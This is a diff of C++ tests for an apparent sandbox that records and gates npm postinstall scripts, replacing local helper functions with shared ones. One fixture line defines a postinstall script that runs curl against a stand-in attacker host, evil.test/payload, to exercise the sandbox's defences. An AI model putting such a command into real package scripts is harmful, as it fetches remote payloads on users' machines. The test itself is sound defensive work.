@@ -303,32 +303,6 @@ TEST_CASE("recording: secrets in recorded argv are redacted") {
 // The real npm against the tests' own registry: lifecycle scripts as npm starts them.
 namespace {
 
-SandboxRun npm_install(const Scenario& s, const std::vector<std::string>& flags) {
-  std::vector<std::string> command{"npm",
-                                   "install",
-                                   "--no-audit",
-                                   "--no-fund",
-                                   "--no-update-notifier",
-                                   "--foreground-scripts",
-                                   "--registry",
-                                   "http://registry.test/"};
-  std::vector<std::string> all_flags{"--allow-host", "registry.test:80"};
-  all_flags.insert(all_flags.end(), flags.begin(), flags.end());
-  auto run = s.run(command, all_flags, kCleanCiEnv, 120s);
-  UNSCOPED_INFO("exit " << run.exit_code() << "\nstdout: " << run.result.out
-                        << "\nstderr: " << run.result.err);
-  return run;
-}
-
-void write_project(const Scenario& s, const std::string& dependencies) {
-  std::ofstream(s.project() + "/package.json")
-      << "{\"name\":\"demo\",\"version\":\"1.0.0\",\"dependencies\":{" << dependencies << "}}\n";
-  if (s.who() == Who::Unprivileged) {
-    REQUIRE(::chown((s.project() + "/package.json").c_str(), kUnprivilegedUid, kUnprivilegedUid) ==
-            0);
-  }
-}
-
 constexpr const char* kPostinstall = "curl -s -m 5 http://evil.test/payload; node other.js";
 
 NpmPackage scripted(const std::string& name) {
@@ -348,8 +322,8 @@ TEST_CASE("recording: npm postinstall tree, argv, cwd and attribution are exact"
   write_npm_registry(net.registry_root(), "http://registry.test/", {scripted("a")});
   Scenario s(who);
   s.run_behind(net.in_world({}));
-  write_project(s, "\"a\":\"1.0.0\"");
-  auto run = npm_install(s, {"--scripts", "all", "--no-promote"});
+  write_package_json(s, "\"a\":\"1.0.0\"");
+  auto run = run_npm(s, {"install", "--foreground-scripts"}, {"--scripts", "all", "--no-promote"});
   REQUIRE(run.report.is_object());
   CHECK(contains(run.result.out + run.result.err, "other ran for a"));
 
@@ -385,8 +359,9 @@ TEST_CASE("recording: npm with --scripts allow:a runs a's postinstall and refuse
   write_npm_registry(net.registry_root(), "http://registry.test/", {scripted("a"), scripted("b")});
   Scenario s(who);
   s.run_behind(net.in_world({}));
-  write_project(s, "\"a\":\"1.0.0\",\"b\":\"1.0.0\"");
-  auto run = npm_install(s, {"--scripts", "allow:a", "--no-promote"});
+  write_package_json(s, "\"a\":\"1.0.0\",\"b\":\"1.0.0\"");
+  auto run =
+      run_npm(s, {"install", "--foreground-scripts"}, {"--scripts", "allow:a", "--no-promote"});
   REQUIRE(run.report.is_object());
   std::string output = run.result.out + run.result.err;
   CHECK(contains(output, "other ran for a"));
